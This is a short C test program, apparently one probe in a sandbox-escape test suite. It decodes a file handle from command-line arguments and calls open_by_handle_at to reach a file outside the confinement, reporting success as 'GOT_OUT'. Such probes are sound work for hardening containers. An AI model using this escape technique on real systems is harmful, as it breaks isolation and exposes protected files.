/* SPDX-License-Identifier: MIT */
/* A file by its handle, which is no path: argv[2] is the type, argv[3] the bytes in hexadecimal. */
#include "attack.h"

int main(int argc, char **argv)
{
	union {
		struct file_handle handle;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} file;
	file.handle.handle_type = atoi(argv[2]);
	file.handle.handle_bytes = (unsigned)strlen(argv[3]) / 2;
	for (unsigned i = 0; i < file.handle.handle_bytes; i++) {
		unsigned byte;
		sscanf(argv[3] + 2 * i, "%2x", &byte);
		file.handle.f_handle[i] = (unsigned char)byte;
	}
	int fd = open_by_handle_at(open("/", O_RDONLY), &file.handle, O_RDONLY);
	return is_secret(fd) ? GOT_OUT : refused("open_by_handle_at");
}
